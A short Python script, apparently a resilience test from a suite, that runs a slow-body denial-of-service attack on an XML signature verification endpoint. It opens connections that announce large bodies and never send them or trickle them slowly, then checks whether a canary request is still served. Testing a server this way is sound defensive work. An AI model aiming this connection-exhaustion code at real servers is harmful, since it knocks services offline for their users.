"""Bodies that are announced and never come, and hundreds that trickle: others' bodies are taken."""

import threading
import time

from attack import CANARY, Canary, Server, verdict

PATH = "/api/v1/verifyXMLDSig"

with Server() as server:
    sockets = []

    def begin(length, piece):
        connection = server.connect()
        connection.sendall(
            f"POST {PATH} HTTP/1.1\r\nHost: t\r\nContent-Type: application/xml\r\nContent-Length: {length}\r\n\r\n".encode()
            + piece)
        sockets.append(connection)

    for _ in range(8):
        begin(8 << 20, b"")
    for _ in range(900):
        try:
            begin(65536, b"x" * 30000)
        except OSError:
            pass
    is_over = threading.Event()

    def trickle():
        while not is_over.wait(1):
            for connection in sockets[8:]:
                try:
                    connection.send(b"x" * 700)
                except OSError:
                    pass

    threading.Thread(target=trickle, daemon=True).start()

    def call():
        response = server.request("POST", PATH, b"<a/>" + b" " * 40000, {"Content-Type": "application/xml"}, CANARY)
        if response.status in (429, 503):
            raise ConnectionError(f"status {response.status}")

    with Canary(server, call) as canary:
        time.sleep(12)
    is_over.set()
    verdict("bodies", canary, sockets=(800, len(sockets), None))
